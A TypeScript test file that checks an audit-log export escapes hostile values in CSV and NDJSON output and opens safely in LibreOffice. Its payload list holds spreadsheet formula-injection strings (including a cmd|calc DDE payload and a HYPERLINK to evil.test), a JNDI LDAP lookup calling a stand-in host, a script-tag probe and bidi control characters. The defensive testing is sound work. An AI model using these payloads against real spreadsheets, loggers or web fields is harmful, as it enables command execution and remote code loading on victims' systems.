import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  createExportWorld,
  type ExportWorld,
  exportAs,
  fillLog,
  openArchive,
  startExports,
} from '../testing/exports.fixture.ts'
import { recordsOf } from '../testing/parse-csv.fixture.ts'

/** What has made a spreadsheet, a terminal, a reader of logs or a parser do something. */
const hostile = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠A', '=HYPERLINK("https://evil.test","x")'],
  ...[' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1', "'=1+1", '  "=1+1', '\u00a0=1+1', '“=1+1', '\u200b=1+1'],
  ...["=cmd|' /C calc'!A0", '%0A-3+3+cmd|/C calc!D2', '@=1', '";=1+1;"', '1,=1+1', '",=1+1,"', '"\r\n=1+1'],
  ...['line\r\nbreak', 'line\nbreak', 'a,b', 'a;b', 'a"b', '""', '"', "'", '\\', '\\n', 'tab\there'],
  ...['\u202Egnp.exe', '\u2066isolate\u2069', 'مرحبا', 'שלום', '\u001b[31mred\u001b[0m', '\u0007bell', '\u0085next'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload.
  ...['\u2028line', '${jndi:ldap://evil.test/a}', '<script>alert(1)</script>', '\uFEFFmark', '🙂', 'e\u0301', '日本語'],
]

let world: ExportWorld
let running: ReturnType<typeof startExports>

beforeAll(async () => {
  world = await createExportWorld()
  running = startExports(world)
  await fillLog(world, world.logs.acme, hostile.length, (index) => {
    const text = hostile[index] ?? ''
    return {
      description: text,
      reason: text,
      userAgent: text,
      actor: { type: 'user', id: text, email: 'a@example.test', username: text, name: text, role: text },
      targets: [{ type: 'campaign', id: text, name: text, revision: null, relation: null, url: null }],
      changes: [{ path: 'text', before: text, after: { [text]: [text] } }],
      metadata: { text },
    }
  })
})
afterAll(async () => {
  await running.stop()
  await world.close()
})

async function exported(format: 'csv' | 'ndjson') {
  const { id, view } = await exportAs(world, world.people.admin, { filter: { q: 'module:campaigns' }, format })
  expect(view).toMatchObject({ status: 'ready', written: hostile.length })
  return (await openArchive(world, id))[view.fileName.replace('.zip', `.${format}`)] ?? ''
}

test('each event is one record whose cells start no formula and hide nothing, for a parser of another hand', async () => {
  const text = await exported('csv')
  const records = recordsOf(text)
  expect(records).toHaveLength(hostile.length)
  for (const [index, record] of records.entries()) {
    const payload = hostile[index] ?? ''
    for (const [column, cell] of Object.entries(record)) {
      expect([
        column,
        payload,
        /^[\s"'“\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell.replace(/^'/, '')) && !cell.startsWith("'"),
      ]).toEqual([column, payload, false])
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
      expect(cell).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/)
    }
    // Values as JSON are exactly what they were.
    expect(JSON.parse(record.Changes ?? '')).toEqual([
      { path: 'text', before: payload, after: { [payload]: [payload] } },
    ])
    expect(JSON.parse(record.Metadata ?? '')).toEqual({ text: payload })
  }
  expect(text.split('\r\n')).toHaveLength(hostile.length + 2)
})

test('NDJSON gives every value back as it was, one event a line', async () => {
  const text = await exported('ndjson')
  const lines = text.trimEnd().split('\n')
  expect(lines).toHaveLength(hostile.length)
  for (const [index, line] of lines.entries()) {
    const event = JSON.parse(line)
    const payload = hostile[index]
    expect([
      event.description,
      event.reason,
      event.actor.name,
      event.evidence.userAgent,
      event.evidence.actorId,
    ]).toEqual([...[payload, payload, payload, payload, payload]])
    expect(event.evidence.metadata).toEqual({ text: payload })
  }
})

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0)

// Where there is no LibreOffice, the test above stands alone.
test.skipIf(!office)('a spreadsheet opens all of it as text', async () => {
  const directory = mkdtempSync(path.join(tmpdir(), 'daybook-office-'))
  try {
    writeFileSync(path.join(directory, 'log.csv'), await exported('csv'))
    const filter = 'CSV:44,34,UTF8,1,,0,false,true,false'
    execFileSync(
      office ?? '',
      ['--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', directory, 'log.csv'],
      {
        cwd: directory,
        env: { ...process.env, HOME: directory },
        stdio: 'ignore',
      },
    )
    const sheet = readFileSync(path.join(directory, 'log.fods'), 'utf8')
    expect(sheet).toContain('jndi')
    expect(sheet).not.toContain('table:formula=')
  } finally {
    rmSync(directory, { recursive: true, force: true })
  }
})
